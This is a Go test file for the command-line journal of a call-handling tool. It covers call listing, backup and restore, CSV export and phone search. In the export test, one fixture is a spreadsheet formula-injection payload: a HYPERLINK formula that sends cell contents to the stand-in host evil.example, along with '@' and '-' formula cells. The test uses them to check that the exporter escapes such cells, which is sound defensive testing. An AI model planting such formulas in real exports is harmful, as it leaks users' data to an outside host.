package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/urfave/cli/v2"

	"github.com/obzvon/obzvon/journal"
)

func runCLI(t *testing.T, args ...string) (string, error) {
	t.Helper()
	app := newApp()
	var out bytes.Buffer
	app.Writer = &out
	app.ErrWriter = &out
	app.ExitErrHandler = func(*cli.Context, error) {}
	err := runApp(app, append([]string{"obzvon"}, args...))
	return out.String(), err
}

func TestJournalCalls(t *testing.T) {
	dir := t.TempDir()
	j, err := journal.Open(journal.DefaultOptions(dir))
	if err != nil {
		t.Fatal(err)
	}
	base := time.Date(2026, 3, 1, 10, 0, 0, 0, time.UTC)
	for i := 0; i < 3; i++ {
		c := &journal.CallRecord{Direction: "outbound", Route: "screening", Arrived: base.Add(time.Duration(i) * time.Hour), HangupBy: "callee", SIPCode: 200}
		if err := j.PutCall(context.Background(), c); err != nil {
			t.Fatal(err)
		}
	}
	j.Close()

	out, err := runCLI(t, "journal", "calls", "--dir", dir, "--json", "--from", base.Add(30*time.Minute).Format(time.RFC3339), "--to", base.Add(3*time.Hour).Format(time.RFC3339))
	if err != nil {
		t.Fatalf("journal calls --json: %v\n%s", err, out)
	}
	var got []journal.CallRecord
	if err := json.Unmarshal([]byte(out), &got); err != nil {
		t.Fatalf("journal calls --json printed %q: %v", out, err)
	}
	if len(got) != 2 || !got[0].Arrived.Equal(base.Add(time.Hour)) || got[1].Route != "screening" {
		t.Fatalf("journal calls --json = %+v, want the calls at 11:00 and 12:00", got)
	}

	out, err = runCLI(t, "journal", "calls", "--dir", dir)
	if err != nil || strings.Count(out, "outbound") != 3 || !strings.HasPrefix(out, "ID") {
		t.Fatalf("journal calls (table) = %q, %v; want a header and 3 rows", out, err)
	}

	_, err = runCLI(t, "journal", "calls", "--dir", dir, "--from", "yesterday")
	if err == nil || !strings.Contains(err.Error(), `--from "yesterday"`) {
		t.Fatalf("journal calls --from yesterday = %v, want a usage error naming the flag", err)
	}
}

func TestJournalCallsWhileOpen(t *testing.T) {
	dir := t.TempDir()
	j, err := journal.Open(journal.DefaultOptions(dir))
	if err != nil {
		t.Fatal(err)
	}
	defer j.Close()
	_, err = runCLI(t, "journal", "calls", "--dir", dir)
	if err == nil || !strings.Contains(err.Error(), "is the daemon running?") {
		t.Fatalf("journal calls on a held journal = %v, want the in-use hint", err)
	}
}

func TestJournalBackupRestore(t *testing.T) {
	dir := t.TempDir()
	j, err := journal.Open(journal.DefaultOptions(dir))
	if err != nil {
		t.Fatal(err)
	}
	c := &journal.CallRecord{Direction: "inbound", Arrived: time.Now()}
	if err := j.PutCall(context.Background(), c); err != nil {
		t.Fatal(err)
	}
	j.Close()
	file := filepath.Join(t.TempDir(), "j.bak")
	if out, err := runCLI(t, "journal", "backup", "--dir", dir, file); err != nil {
		t.Fatalf("journal backup: %v\n%s", err, out)
	}
	target := filepath.Join(t.TempDir(), "restored")
	if out, err := runCLI(t, "journal", "restore", file, target); err != nil {
		t.Fatalf("journal restore: %v\n%s", err, out)
	}
	out, err := runCLI(t, "journal", "calls", "--dir", target, "--json")
	if err != nil || !strings.Contains(out, c.ID) {
		t.Fatalf("calls in restored journal = %q, %v; want %s", out, err, c.ID)
	}
	if out, err := runCLI(t, "journal", "check", "--dir", target); err != nil || !strings.Contains(out, "agree") {
		t.Fatalf("journal check of the restored journal = %q, %v", out, err)
	}
	if _, err := runCLI(t, "journal", "restore", file, target); err == nil || !strings.Contains(err.Error(), "not empty") {
		t.Fatalf("restore into a non-empty dir = %v", err)
	}
}

func TestJournalExportAndSearch(t *testing.T) {
	dir := t.TempDir()
	j, err := journal.Open(journal.DefaultOptions(dir))
	if err != nil {
		t.Fatal(err)
	}
	op := journal.Actor{Login: "op1", Role: journal.RoleOperatorL1}
	for _, text := range []string{"Первое; с точкой с запятой", "Второе\nв две строки"} {
		a := &journal.Appeal{Channel: journal.ChannelPhone, Phone: "89123456789", Kind: journal.KindConsultation, Topic: "x", Text: text,
			Person: journal.PersonData{Surname: "Иванова", Birth: "1980-05-17"}}
		if err := j.CreateAppeal(context.Background(), op, a); err != nil {
			t.Fatal(err)
		}
	}
	// Formula injection (OWASP): cells a spreadsheet would evaluate.
	evil := &journal.Appeal{Channel: journal.ChannelPhone, Phone: "89000000000", Kind: journal.KindConsultation, Topic: "x",
		Text: `=HYPERLINK("http://evil.example/?"&E2,"Подробнее")`, Person: journal.PersonData{Surname: "@SUM(1+1)", Name: "-2+3"}}
	if err := j.CreateAppeal(context.Background(), op, evil); err != nil {
		t.Fatal(err)
	}
	j.Close()
	out, err := runCLI(t, "journal", "export", "--dir", dir, "--format", "csv")
	if err != nil {
		t.Fatalf("journal export: %v", err)
	}
	if !strings.HasPrefix(out, "\ufeffНомер;Дата регистрации;") {
		t.Fatalf("export does not start with a BOM and Russian header: %q", out[:40])
	}
	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(out, "\ufeff")))
	r.Comma = ';'
	rows, err := r.ReadAll()
	if err != nil || len(rows) != 4 || rows[1][11] != "Первое; с точкой с запятой" || rows[2][11] != "Второе\nв две строки" || rows[1][7] != "17.05.1980" || rows[1][12] != "В работе" {
		t.Fatalf("export rows = %q, %v", rows, err)
	}
	if e := rows[3]; e[11] != `'=HYPERLINK("http://evil.example/?"&E2,"Подробнее")` || e[4] != "'@SUM(1+1)" || e[5] != "'-2+3" || e[3] != "+79000000000" {
		t.Errorf("formula-looking cells exported as %q, want them prefixed with ' (phone left alone)", e)
	}
	out, err = runCLI(t, "journal", "search", "--dir", dir, "--phone", "+7 912 345-67-89", "--json")
	var refs []journal.AppealRef
	if err != nil || json.Unmarshal([]byte(out), &refs) != nil || len(refs) != 2 || !strings.HasSuffix(refs[0].Number, "-000002") {
		t.Fatalf("journal search --phone = %q, %v", out, err)
	}
	if _, err := runCLI(t, "journal", "export", "--dir", dir, "--format", "xml"); err == nil || !strings.Contains(err.Error(), `--format "xml"`) {
		t.Fatalf("export --format xml = %v", err)
	}
}
